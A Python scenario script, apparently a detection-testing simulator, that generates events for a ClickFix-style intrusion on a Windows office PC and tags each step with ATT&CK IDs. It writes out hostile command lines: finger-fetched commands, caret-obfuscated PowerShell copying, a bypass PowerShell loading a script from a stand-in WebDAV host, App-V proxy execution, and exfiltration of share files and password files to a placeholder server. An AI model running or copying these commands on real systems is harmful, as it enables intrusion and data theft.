"""Win+X, then a pasted line: finger gives commands, a copy of PowerShell reads its script from a WebDAV share, Python
comes along, a task is made by COM, and files of a department's share leave the house. It resembles ClickFix chains
with Python loaders."""
import struct

from scenery import Desktop

SETTING = {"start": "2025-11-19T13:05:52", "user": "MUELLER-BAU\\s.krause", "home": "C:\\Users\\s.krause",
           "computer": "BUERO-14", "os_version": (10, 0, 26200), "local_address": "192.168.17.44"}
MICROSOFT = {"company": "Microsoft Corporation"}
PYTHON = {"company": "Python Software Foundation", "description": "Python", "version": "3.11.9"}
USER_SID = "S-1-5-21-1004336348-1177238915-682003330-1001"
CACHE = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"
TASK = r"Krause\OneSync\Reconcile"
GUID = "{2F9C7B10-4D52-4E09-9C31-B1C6F55E0A72}"
FINGER, DAV, SINK = ("198.51.100.23", 79), ("198.51.100.24", 443), ("203.0.113.90", 8443)
SHARE = r"\\NAS-BAU\Kalkulation"
SHARED = ["Angebot Rathaus.xlsx", "Angebot Schule Nord.xlsx", "LV Tiefbau.pdf", "Nachunternehmer.docx",
          "Kalkulation 2025.xlsx",
          "Kalkulation 2026.xlsx", "Stundensätze.xlsx", "Bürgschaften.pdf", "Vertrag Kran.pdf", "Mahnungen.docx",
          "Personal 2025.xlsx", "Submission 11-25.docx", "Preisliste Beton.xlsx", "Lageplan Ost.pdf", "Bauzeiten.xlsx"]


def done_by(c, *processes):
    """The doers of behaviours whose processes start within them."""
    for behaviour in c.behaviours:
        behaviour.pids = behaviour.pids or {process.pid for process in processes}


def power(c):
    return c.system_root + r"\System32\WindowsPowerShell\v1.0\powershell.exe"


def automation(c):
    return c.system_root + (r"\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\a10fb2"
                            r"\System.Management.Automation.ni.dll")


def actions(command, arguments):
    """A task's actions as the registry keeps them."""
    def text(value):
        raw = value.encode("utf-16-le")
        return struct.pack("<I", len(raw)) + raw
    return struct.pack("<H", 3) + text("Author") + struct.pack("<HI", 0x6666, 0) + text(command) + text(arguments) + bytes(6)


def open_terminal(c, desktop):
    """Win+X, I: Explorer starts the terminal, which starts PowerShell."""
    package = r"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.23.12811.0_x64__8wekyb3d8bbwe"
    terminal = c.spawn(desktop.explorer, package + r"\WindowsTerminal.exe", '"%s\\WindowsTerminal.exe"' % package,
                       directory=c.home + "\\", **MICROSOFT)
    console = c.spawn(terminal, package + r"\OpenConsole.exe", '"%s\\OpenConsole.exe" --headless --width 120 --height 30 '
                      '--signal 0xa04 --server 0xa00' % package, **MICROSOFT)
    shell = c.spawn(terminal, power(c), power(c), directory=c.home + "\\", **MICROSOFT)
    c.load(shell, automation(c))
    c.load(console, c.system_root + r"\System32\d3d11.dll")
    history = c.home + r"\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt"
    c.open(shell, history, 0x120116, 3)
    c.write_at(shell, history, 1_240, 61)
    c.close(shell, history)
    return shell


def read_dav(c, desktop, client, tool, name, size):
    """A file on a WebDAV share over TLS: the WebClient service fetches it, rundll32 sets the cookie for it."""
    unc = r"\\cdn-verify.example@SSL\DavWWWRoot\v"
    helper = c.spawn(client, c.system_root + r"\System32\rundll32.exe",
                     "rundll32.exe %s\\system32\\davclnt.dll,DavSetCookie "
                     "cdn-verify.example@SSL https://cdn-verify.example/v/%s" % (c.system_root.lower(), name), user=c.user,
                     integrity="Medium", session=1, sid=USER_SID, **MICROSOFT)
    c.load(helper, c.system_root + r"\System32\davclnt.dll")
    desktop.resolve(55012)
    c.exchange(client, DAV, 52110, [480, 260, 310], [5_900, 1_420, size])
    c.exit(helper)
    c.read(tool, unc + "\\" + name, size)
    return helper


def register_by_com(c, desktop, maker, command, arguments):
    """Only the library in the maker and the service's writes show that a task was made."""
    host = desktop.scheduler
    c.load(maker, c.system_root + r"\System32\taskschd.dll")
    for folder in ("Krause", r"Krause\OneSync"):
        c.folder(host, r"C:\Windows\System32\Tasks" + "\\" + folder)
        c.key(host, CACHE + r"\Tree" + "\\" + folder, new=True)
        c.set_value(host, CACHE + r"\Tree" + "\\" + folder + r"\SD", "REG_BINARY", bytes(120))
    c.drop(host, r"C:\Windows\System32\Tasks" + "\\" + TASK, 3_172)
    c.key(host, CACHE + r"\Tree" + "\\" + TASK, new=True)
    c.set_value(host, CACHE + r"\Tree" + "\\" + TASK + r"\Id", "REG_SZ", GUID)
    c.set_value(host, CACHE + r"\Tree" + "\\" + TASK + r"\Index", "REG_DWORD", 3)
    c.key(host, CACHE + r"\Tasks" + "\\" + GUID, new=True)
    c.set_value(host, CACHE + r"\Tasks" + "\\" + GUID + r"\Path", "REG_SZ", "\\" + TASK)
    c.set_value(host, CACHE + r"\Tasks" + "\\" + GUID + r"\Actions", "REG_BINARY", actions(command, arguments))


def take_share(c, filled):
    """The department's share, file by file, under other names into Temp, then out."""
    stage = c.home + r"\AppData\Local\Temp\{7C0A-41}"
    c.folder(filled, stage)
    with c.behaviour("copies the documents of a network share under other names into Temp", "high",
                     ("T1039", "T1074.001", "T1119"), filled, ("NAS-BAU", "{7C0A-41}")):
        for number, name in enumerate(SHARED):
            c.read(filled, SHARE + r"\2025" + "\\" + name, 84_000 + 9_000 * (number % 4))
            c.drop(filled, stage + r"\%08x.tmp" % (0x51F3A0 + 977 * number), 84_000 + 9_000 * (number % 4))
    with c.behaviour("reads lists of passwords on the share", "medium", ("T1552.001", "T1039"), filled,
                     ("Zugangsdaten.xlsx", "passwords.txt", "Firma.kdbx")):
        for name in ("Zugangsdaten.xlsx", "passwords.txt", "Firma.kdbx"):
            c.read(filled, r"\\NAS-BAU\IT\Intern" + "\\" + name, 18_000)
    with c.behaviour("sends more than a megabyte to a server at an odd port", "medium", ("T1041", "T1571", "T1020"), filled,
                     SINK[0]):
        for number in range(3):
            c.exchange(filled, SINK, 52300 + number, [65_536] * 8, [96])
            c.wait(5)


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    client = c.process(system32 + "svchost.exe", desktop.services, system32 + "svchost.exe -k LocalService -p -s WebClient",
                       started_before=True, user="NT AUTHORITY\\LOCAL SERVICE", integrity="System", session=0,
                       sid="S-1-5-19", **MICROSOFT)
    desktop.murmur(5)
    shell = open_terminal(c, desktop)
    c.wait(6)
    with c.behaviour("a line pasted into the terminal has cmd run what finger fetches", "high",
                     ("T1204.004", "T1105", "T1059.003", "T1059"), (), "finger"):
        finger = c.spawn(shell, system32 + "finger.exe", '"%sfinger.exe" verify@198.51.100.23' % system32,
                         directory=c.home + "\\", **MICROSOFT)
        c.net(finger, "Connect", FINGER, 52100)
        reader = c.spawn(shell, system32 + "cmd.exe", '"%scmd.exe"' % system32, directory=c.home + "\\", **MICROSOFT)
        c.net(finger, "Send", FINGER, 52100, 8)
        c.net(finger, "Receive", FINGER, 52100, 1_310)
        c.net(finger, "Disconnect", FINGER, 52100)
    done_by(c, shell, finger, reader)
    c.exit(finger)
    copied = c.home + r"\AppData\Local\Temp\svch.exe"
    with c.behaviour("a command with carets and changing case copies PowerShell under another name", "high",
                     ("T1036.003", "T1027.010"), (), ("svch.exe", "^")):
        inner = c.spawn(reader, system32 + "cmd.exe", r'cMD  /c "C^o^P^y /y C:\WiNdOwS\SySTem32\W^i^n^d^o^w^s^Po^we^rSh^ell'
                        r'\v1.0\p^o^w^e^r^s^h^e^l^l.e^xe ' + c.home + r'\AppData\Local\Temp\sv^ch.exe"',
                        directory=c.home + "\\", **MICROSOFT)
        c.read(inner, power(c), 455_680)
        c.drop(inner, copied, 455_680)
    done_by(c, reader, inner)
    c.exit(inner)
    script = r"\\cdn-verify.example@SSL\DavWWWRoot\v\s2.ps1"
    c.host(DAV[0], "cdn-verify.example")
    with c.behaviour("the renamed PowerShell runs a script, known by its arguments and by its libraries", "high",
                     ("T1059.001", "T1036.003", "T1564.003"), (), "svch.exe"):
        renamed = c.spawn(reader, copied, "%s -nOp -w 1 -eP byPass -fI %s" % (copied, script), directory=c.home + "\\",
                          description="Windows PowerShell", version="10.0.26100.1", **MICROSOFT)
        c.load(renamed, system32 + "mscoree.dll")
        c.load(renamed, automation(c))
    done_by(c, reader, renamed)
    with c.behaviour("a script comes from a WebDAV share over TLS", "high",
                     ("T1105", "T1059.001", "T1218.011", "T1021.002"), renamed,
                     ("DavSetCookie", "cdn-verify.example@SSL", "s2.ps1", "DavWWWRoot")):
        helper = read_dav(c, desktop, client, renamed, "s2.ps1", 6_210)
    done_by(c, renamed, client, helper, reader)
    c.exit(reader)
    home = r"C:\ProgramData\Pylib311"
    with c.behaviour("brings Python along into a folder of ProgramData, with a script", "medium", ("T1105", "T1059.006"),
                     renamed, ("Pylib311", "pythonw.exe")):
        c.exchange(renamed, DAV, 52120, [510, 260], [16_000] * 8)
        c.folder(renamed, home)
        for name, size in (("pythonw.exe", 103_000), ("python311.dll", 1_800_000), ("vcruntime140.dll", 110_000),
                           ("python311.zip", 1_200_000), ("b.pyw", 71_000)):
            c.drop(renamed, home + "\\" + name, size, chunk=262_144)
    with c.behaviour("makes a task in a nested folder by COM", "high", "T1053.005", renamed, ("Reconcile", "OneSync")):
        register_by_com(c, desktop, renamed, home + r"\pythonw.exe", home + r"\b.pyw")
    with c.behaviour("has the App-V script run PowerShell commands", "high", ("T1216.002", "T1216", "T1059.001"), renamed,
                     "SyncAppvPublishingServer"):
        host = c.spawn(renamed, system32 + "wscript.exe", '"%swscript.exe" %sSyncAppvPublishingServer.vbs "n;$e=gi env:tmp;'
                       "gci $e.value svch*|%%{$_.FullName}|sc $env:tmp\\q.lst\"" % (system32, system32), **MICROSOFT)
        c.read(host, system32 + "SyncAppvPublishingServer.vbs", 1_660)
        runner = c.spawn(host, power(c), '"%s" -NonInteractive -WindowStyle Hidden -ExecutionPolicy RemoteSigned -Command '
                         "&{$env:psmodulepath = [IO.Directory]::GetCurrentDirectory(); import-module AppvClient; "
                         "Sync-AppvPublishingServer n;$e=gi env:tmp;gci $e.value svch*|%%{$_.FullName}|sc $env:tmp\\q.lst}"
                         % power(c), **MICROSOFT)
        c.drop(runner, c.home + r"\AppData\Local\Temp\q.lst", 61)
        c.exit(runner)
        c.exit(host)
    done_by(c, renamed, host, runner)
    c.exit(renamed)
    desktop.murmur(4)
    c.wait(300)
    with c.behaviour("the task starts the new Python with the script", "high", ("T1053.005", "T1059.006"), (),
                     ("b.pyw", "pythonw.exe")):
        python = c.spawn(desktop.scheduler, home + r"\pythonw.exe", "%s\\pythonw.exe %s\\b.pyw" % (home, home), user=c.user,
                         integrity="Medium", session=1, sid=USER_SID, **PYTHON)
        c.load(python, home + r"\python311.dll")
        c.read(python, home + r"\b.pyw", 71_000)
    done_by(c, desktop.scheduler, python, renamed)
    with c.behaviour("starts a dllhost without arguments and runs code in it", "high", ("T1055.012", "T1055", "T1055.002"),
                     python, "dllhost.exe"):
        filled = c.spawn(python, system32 + "dllhost.exe", system32 + "dllhost.exe", **MICROSOFT)
        c.load(filled, system32 + "winhttp.dll")
        c.load(filled, system32 + "ws2_32.dll")
        c.exchange(filled, SINK, 52290, [310], [1_900, 48_000])
    done_by(c, python, filled)
    take_share(c, filled)
    desktop.murmur(4)
